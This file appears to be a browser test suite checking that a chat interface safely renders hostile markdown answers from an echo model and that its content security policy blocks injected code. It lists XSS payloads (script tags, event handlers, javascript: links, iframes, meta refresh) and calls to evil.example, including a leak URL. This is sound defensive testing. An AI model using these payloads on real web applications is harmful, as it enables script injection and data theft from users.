// The model's words are hostile: the echo model says whatever this test wants it to say.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { launch, openChat } from './browser.mjs';
import { openEchoChat } from './platform.mjs';

let browser;
let chatUrl;

before(async () => {
  ({ chatUrl } = await openEchoChat());
  browser = await launch();
});
after(() => browser?.close());

const ATTACKS = [
  '<script>window.pwned=1</script><img src=x onerror="window.pwned=1"><svg onload=window.pwned=1>',
  '<img src="https://evil.example/pixel.gif"> ![leak](https://evil.example/leak?q=secret)',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/x"></object>',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '[click](javascript:window.pwned=1) [me](data:text/html,<script>window.pwned=1</script>) [too](vbscript:x)',
  '[quote](https://ok.example" onmouseover="window.pwned=1) <https://ok.example/"onfocus="window.pwned=1>',
  '```html"><img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```',
  '| <img src=x onerror=window.pwned=1> | [x](javascript:window.pwned=1) |\n|---|---|\n| <svg/onload=window.pwned=1> | b |',
  '<form action="https://evil.example/"><input autofocus onfocus=window.pwned=1><button>go</button></form>',
  '- [ ] <details open ontoggle=window.pwned=1>\n> <video><source onerror=window.pwned=1></video>',
  '![a][r]\n\n[r]: https://evil.example/p.gif\n\n[![b](https://evil.example/q.gif)](javascript:window.pwned=1)',
];

test('hostile answers run no script, ask no stranger and leave no dangerous element', async () => {
  const chat = await openChat(browser, chatUrl);
  await chat.online();
  for (const [index, attack] of ATTACKS.entries()) {
    await chat.say(attack);
    await chat.answers(index + 1);
  }
  // Every link of an answer is pressed; a page that opens is closed unread.
  await chat.context.route(/ok\.example/, (route) => route.abort());
  for (const link of await chat.page.locator('.md a').all()) {
    await link.click({ modifiers: ['Control'] }).catch(() => {});
    await link.hover();
  }
  await chat.page.waitForTimeout(300);
  const harm = await chat.page.evaluate(() => ({
    pwned: window.pwned ?? null,
    elements: document.querySelectorAll('.md :is(script, img, svg, iframe, object, embed, link, style, meta, base, form, input, video, audio, source)').length,
    handlers: [...document.querySelectorAll('.md *')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on'))).length,
    links: [...document.querySelectorAll('.md a[href]')].map((node) => [new URL(node.href).protocol, node.rel, node.target].join(' ')),
  }));
  assert.equal(harm.pwned, null);
  assert.equal(harm.elements, 0);
  assert.equal(harm.handlers, 0);
  for (const link of harm.links) assert.match(link, /^https?: noopener noreferrer nofollow _blank$/);
  assert.deepEqual(chat.complaints, []);
  assert.equal(new URL(chat.page.url()).href, chatUrl);
  await chat.close();
});

test('the policy would stop a script even if one got into the page', async () => {
  const chat = await openChat(browser, chatUrl);
  const blocked = await chat.page.evaluate(async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.gif" onerror="window.pwned=1">');
    const script = document.createElement('script');
    script.textContent = 'window.pwned = 1';
    document.body.append(script);
    await fetch('https://evil.example/').catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { seen, pwned: window.pwned ?? null };
  });
  assert.equal(blocked.pwned, null);
  for (const directive of ['img-src', 'script-src-elem', 'connect-src']) assert.ok(blocked.seen.includes(directive), `${directive}: ${blocked.seen}`);
  await chat.close();
});
